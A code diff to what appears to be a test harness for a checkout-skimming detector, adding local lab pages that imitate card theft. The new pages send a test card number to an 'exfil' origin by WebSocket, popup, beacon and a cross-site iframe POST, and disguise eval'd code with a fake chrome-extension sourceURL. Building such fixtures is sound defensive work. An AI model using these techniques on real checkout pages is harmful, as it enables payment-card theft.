@@ -177,6 +177,7 @@ const tricks = (o: Origins) => `
 eval('window.__a = 1; /*eval-marker*/');
 var s = document.createElement('script'); s.textContent = 'window.__b = 2; /*injected-inline-marker*/'; document.head.appendChild(s);
 eval('window.__c = 3; /*disguised-marker*/\\n//# sourceURL=https://cdn.trusted.test/jquery.min.js');
+eval('window.__e = 5; fetch("${o.psp}/v3/ext.json", { mode: "no-cors" }); /*extension-marker*/\\n//# sourceURL=chrome-extension://abcdefghijklmnop/skim.js');
 var d = document.createElement('script'); d.src = 'data:text/javascript,window.__d%3D4%3B%2F*data-marker*%2F'; document.head.appendChild(d);
 debugger;
 navigator.sendBeacon('${o.exfil}/b', 'card=4111');
@@ -205,6 +206,17 @@ function storeHandler(o: Origins, compromised: boolean): (req: IncomingMessage, 
         [],
       ),
     '/lab/psp-changed/': () => page('Checkout', '<h1>Checkout</h1>', [], pspTag(o, PSP_CHANGED_PATH, sri(PSP_SCRIPT))),
+    // More run-time scripts than the recorder keeps: the visit must say so.
+    '/lab/many-scripts/': () =>
+      `<!doctype html><html><head><title>Checkout</title><script>for (var i = 0; i < 1010; i++) eval('window.__n' + i + ' = ' + i);</script></head><body><p>many</p></body></html>`,
+    // No valid SRI metadata (W3C SRI §3.3.3): Chromium runs the PSP script unchecked.
+    '/lab/psp-no-metadata/': () => page('Checkout', '<h1>Checkout</h1>', [], pspTag(o, PSP_PATH, 'md5-Zm9v sha1-YmFy not-a-hash')),
+    // A socket that sends as soon as it opens (the checkout skimmer waits for input, which never comes).
+    '/lab/ws-send/': () =>
+      `<!doctype html><html><head><title>Checkout</title><script>var ws = new WebSocket('${o.exfil.replace(/^https/, 'wss')}/c'); ws.onopen = function () { ws.send('card=4111'); };</script></head><body><p>ws</p></body></html>`,
+    // A popup off the target, and a cross-site (out-of-process) iframe that posts.
+    '/lab/escape/': () =>
+      `<!doctype html><html><head><title>Checkout</title><script>window.open('${o.exfil}/popup?c=4111');</script></head><body><iframe src="${o.psp}/frame.html?to=${encodeURIComponent(`${o.exfil}/f`)}"></iframe></body></html>`,
     '/lab/tricks/': () => `<!doctype html><html><head><title>Tricks</title><script>${tricks(o)}</script></head><body><p>tricks</p></body></html>`,
   };
   const scripts: Readonly<Record<string, () => string>> = {
@@ -241,18 +253,24 @@ function storeHandler(o: Origins, compromised: boolean): (req: IncomingMessage, 
 
 const pspHandler = (req: IncomingMessage, res: ServerResponse) => {
   const path = new URL(req.url ?? '/', 'https://x').pathname;
+  if (path === '/frame.html')
+    return void res
+      .writeHead(200, { 'content-type': 'text/html' })
+      .end(
+        "<!doctype html><script>var to = new URLSearchParams(location.search).get('to'); new Image().src = to + '?ran=1'; fetch(to, { method: 'POST', mode: 'no-cors', body: 'card=4111' });</script>",
+      );
   const body = path === PSP_PATH ? PSP_SCRIPT : path === PSP_CHANGED_PATH ? PSP_CHANGED_SCRIPT : undefined;
   if (body === undefined) return void res.writeHead(404).end();
   // CORS, so the store's crossorigin="anonymous" integrity check can run (Fetch §3.2, SRI §3.3.3).
   res.writeHead(200, { 'content-type': 'application/javascript', 'access-control-allow-origin': '*' }).end(body);
 };
 
-/** RFC 6455 §4.2.2: the server's handshake answer; frames after it are ignored. */
-function acceptWebSocket(req: IncomingMessage, socket: Socket): void {
+/** RFC 6455 §4.2.2: the server's handshake answer; frames after it are passed to onData. */
+function acceptWebSocket(req: IncomingMessage, socket: Socket, onData: (chunk: Buffer) => void): void {
   const key = String(req.headers['sec-websocket-key'] ?? '');
   const accept = createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC11B85`).digest('base64');
   socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
-  socket.on('data', () => undefined).on('error', () => undefined);
+  socket.on('data', onData).on('error', () => undefined);
 }
 
 function listen(server: Server, address: string, port = 0): Promise<number> {
@@ -293,7 +311,10 @@ export async function startPaymentLab(): Promise<PaymentLab> {
   exfil.on('upgrade', (req: IncomingMessage, socket: Socket) => {
     seen.push(`${req.method} exfil ${req.url} (websocket)`);
     sockets.add(socket);
-    acceptWebSocket(req, socket);
+    // RFC 6455 §5.2: opcode 1 (text) or 2 (binary) in the first byte is a data frame; a close frame (8) is not.
+    acceptWebSocket(req, socket, (chunk) => {
+      if ([1, 2].includes(chunk[0]! & 0x0f)) seen.push(`WS-DATA exfil ${req.url}`);
+    });
   });
   try {
     const storePort = await listen(clean, ADDRESS.clean);
